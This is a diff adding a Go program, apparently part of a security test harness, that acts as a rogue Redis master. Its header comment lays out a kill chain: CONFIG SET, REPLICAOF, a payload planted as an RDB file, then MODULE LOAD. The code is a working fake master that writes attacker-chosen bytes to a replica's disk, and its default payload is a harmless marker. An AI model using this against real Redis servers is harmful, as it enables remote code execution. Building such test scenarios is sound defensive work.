@@ -0,0 +1,254 @@
+// chain-rogue-master is the attacker-side half of the in-cluster
+// replication kill chain (example/redis/redis-tests/e2e-02-slaveof-
+// rogue-master.yaml, driven through chain-frontend's /api/cache/cmd):
+//
+//  1. CONFIG SET dir /tmp, CONFIG SET dbfilename exp.so  (on chain-redis)
+//  2. REPLICAOF chain-rogue-master.chain.svc 16379       (on chain-redis)
+//  3. chain-redis dials THIS server, runs the replica handshake, and
+//     receives the controlled payload as its "RDB" — which it writes
+//     to dir/dbfilename before trying to load it
+//  4. MODULE LOAD /tmp/exp.so, REPLICAOF NO ONE           (on chain-redis)
+//
+// It speaks just enough of the master side: PING, REPLCONF, AUTH and
+// PSYNC/SYNC, answering the last with FULLRESYNC and the payload. Every
+// command a replica sends is logged, so the run shows exactly what the
+// victim did. No real module ships here: the default payload is a
+// marker string, and PAYLOAD_FILE swaps in whatever bytes a scenario
+// wants planted.
+//
+// Listens on:
+//   - REPLICATION_ADDR (:16379) → the fake master
+//   - LISTEN_ADDR      (:8080)  → GET /healthz for the readiness probe
+package main
+
+import (
+	"bufio"
+	"crypto/rand"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"net/http"
+	"os"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// defaultPayload is planted when PAYLOAD_FILE is unset. It is not an
+// ELF object, so the chain's MODULE LOAD fails at dlopen — the attempt
+// itself is the signal the scenario exercises.
+var defaultPayload = []byte("ROGUE-MASTER-PAYLOAD chain-demo\n")
+
+// Limits on what a peer may send; replicas only ever send short
+// handshake commands.
+const (
+	maxArgs     = 64
+	maxArgBytes = 64 << 10
+	idleTimeout = 5 * time.Minute
+)
+
+// rogueMaster answers the replica handshake with payload.
+type rogueMaster struct {
+	payload []byte
+	replid  string
+	logf    func(format string, args ...any)
+}
+
+func newRogueMaster(payload []byte, logf func(string, ...any)) *rogueMaster {
+	id := make([]byte, 20)
+	_, _ = rand.Read(id)
+	return &rogueMaster{payload: payload, replid: hex.EncodeToString(id), logf: logf}
+}
+
+// serve accepts replicas until ln is closed.
+func (m *rogueMaster) serve(ln net.Listener) error {
+	for {
+		conn, err := ln.Accept()
+		if err != nil {
+			return err
+		}
+		go m.handle(conn)
+	}
+}
+
+// handle runs one replica connection: log each command, answer it.
+func (m *rogueMaster) handle(conn net.Conn) {
+	defer conn.Close()
+	peer := conn.RemoteAddr().String()
+	m.logf("%s connected", peer)
+	br := bufio.NewReader(conn)
+	acked := false
+	for {
+		_ = conn.SetReadDeadline(time.Now().Add(idleTimeout))
+		args, err := readCommand(br)
+		if err != nil {
+			m.logf("%s closed: %v", peer, err)
+			return
+		}
+		// After the transfer the replica acks its offset every second;
+		// log the first so the run shows the sync completed.
+		if isAck(args) {
+			if !acked {
+				m.logf("%s > %s (further ACKs not logged)", peer, quoteArgs(args))
+				acked = true
+			}
+			continue // masters never answer ACK
+		}
+		m.logf("%s > %s", peer, quoteArgs(args))
+		if err := m.respond(conn, args); err != nil {
+			m.logf("%s write: %v", peer, err)
+			return
+		}
+	}
+}
+
+// respond writes the master's answer to args.
+func (m *rogueMaster) respond(w io.Writer, args []string) error {
+	var err error
+	switch strings.ToUpper(args[0]) {
+	case "PING":
+		_, err = io.WriteString(w, "+PONG\r\n")
+	case "REPLCONF", "AUTH", "SELECT":
+		_, err = io.WriteString(w, "+OK\r\n")
+	case "INFO":
+		info := "# Replication\r\nrole:master\r\nmaster_replid:" + m.replid + "\r\n"
+		_, err = fmt.Fprintf(w, "$%d\r\n%s\r\n", len(info), info)
+	case "PSYNC", "SYNC":
+		if strings.EqualFold(args[0], "PSYNC") {
+			if _, err = fmt.Fprintf(w, "+FULLRESYNC %s 0\r\n", m.replid); err != nil {
+				return err
+			}
+		}
+		// The RDB transfer is a bulk header and raw bytes, with no
+		// trailing CRLF.
+		if _, err = fmt.Fprintf(w, "$%d\r\n", len(m.payload)); err == nil {
+			_, err = w.Write(m.payload)
+		}
+		if err == nil {
+			m.logf("sent %d-byte payload as RDB", len(m.payload))
+		}
+	default:
+		_, err = fmt.Fprintf(w, "-ERR rogue master does not implement %s\r\n", strings.ToUpper(args[0]))
+	}
+	return err
+}
+
+func isAck(args []string) bool {
+	return len(args) >= 2 && strings.EqualFold(args[0], "REPLCONF") && strings.EqualFold(args[1], "ACK")
+}
+
+// readCommand reads one RESP multibulk command, or an inline command
+// line as redis-cli / telnet send it. Blank lines are keepalives and
+// are skipped.
+func readCommand(br *bufio.Reader) ([]string, error) {
+	var line string
+	for {
+		var err error
+		if line, err = readLine(br); err != nil {
+			return nil, err
+		}
+		if strings.HasPrefix(line, "*") {
+			break
+		}
+		if args := strings.Fields(line); len(args) > 0 {
+			return args, nil
+		}
+	}
+	n, err := strconv.Atoi(line[1:])
+	if err != nil || n < 1 || n > maxArgs {
+		return nil, fmt.Errorf("bad multibulk header %q", line)
+	}
+	args := make([]string, n)
+	for i := range args {
+		hdr, err := readLine(br)
+		if err != nil {
+			return nil, err
+		}
+		size, err := strconv.Atoi(strings.TrimPrefix(hdr, "$"))
+		if !strings.HasPrefix(hdr, "$") || err != nil || size < 0 || size > maxArgBytes {
+			return nil, fmt.Errorf("bad bulk header %q", hdr)
+		}
+		buf := make([]byte, size+2)
+		if _, err := io.ReadFull(br, buf); err != nil {
+			return nil, err
+		}
+		if string(buf[size:]) != "\r\n" {
+			return nil, errors.New("bulk not CRLF-terminated")
+		}
+		args[i] = string(buf[:size])
+	}
+	return args, nil
+}
+
+// readLine reads one line, failing once it passes maxArgBytes rather
+// than buffering whatever a peer sends before its newline.
+func readLine(br *bufio.Reader) (string, error) {
+	var line []byte
+	for {
+		chunk, err := br.ReadSlice('\n')
+		if len(line)+len(chunk) > maxArgBytes {
+			return "", errors.New("line too long")
+		}
+		line = append(line, chunk...)
+		if err == nil {
+			return strings.TrimRight(string(line), "\r\n"), nil
+		}
+		if !errors.Is(err, bufio.ErrBufferFull) {
+			return "", err
+		}
+	}
+}
+
+// quoteArgs renders a command for the log, quoting each argument.
+func quoteArgs(args []string) string {
+	q := make([]string, len(args))
+	for i, a := range args {
+		q[i] = strconv.Quote(a)
+	}
+	return strings.Join(q, " ")
+}
+
+func main() {
+	replAddr := getenv("REPLICATION_ADDR", ":16379")
+	healthAddr := getenv("LISTEN_ADDR", ":8080")
+
+	payload := defaultPayload
+	if path := os.Getenv("PAYLOAD_FILE"); path != "" {
+		b, err := os.ReadFile(path)
+		if err != nil {
+			log.Fatalf("PAYLOAD_FILE: %v", err)
+		}
+		payload = b
+	}
+
+	ln, err := net.Listen("tcp", replAddr)
+	if err != nil {
+		log.Fatalf("listen %s: %v", replAddr, err)
+	}
+	m := newRogueMaster(payload, log.Printf)
+	go func() {
+		log.Fatalf("replication listener: %v", m.serve(ln))
+	}()
+
+	mux := http.NewServeMux()
+	mux.HandleFunc("/healthz", func(w http.ResponseWriter, _ *http.Request) {
+		w.WriteHeader(http.StatusOK)
+		_, _ = w.Write([]byte("ok"))
+	})
+	srv := &http.Server{Addr: healthAddr, Handler: mux, ReadHeaderTimeout: 5 * time.Second}
+	log.Printf("chain-rogue-master replid=%s payload=%d bytes, replication on %s, health on %s",
+		m.replid, len(payload), replAddr, healthAddr)
+	if err := srv.ListenAndServe(); err != nil {
+		log.Fatalf("listen: %v", err)
+	}
+}
+
+func getenv(k, def string) string {
+	if v := os.Getenv(k); v != "" {
+		return v
+	}
+	return def
+}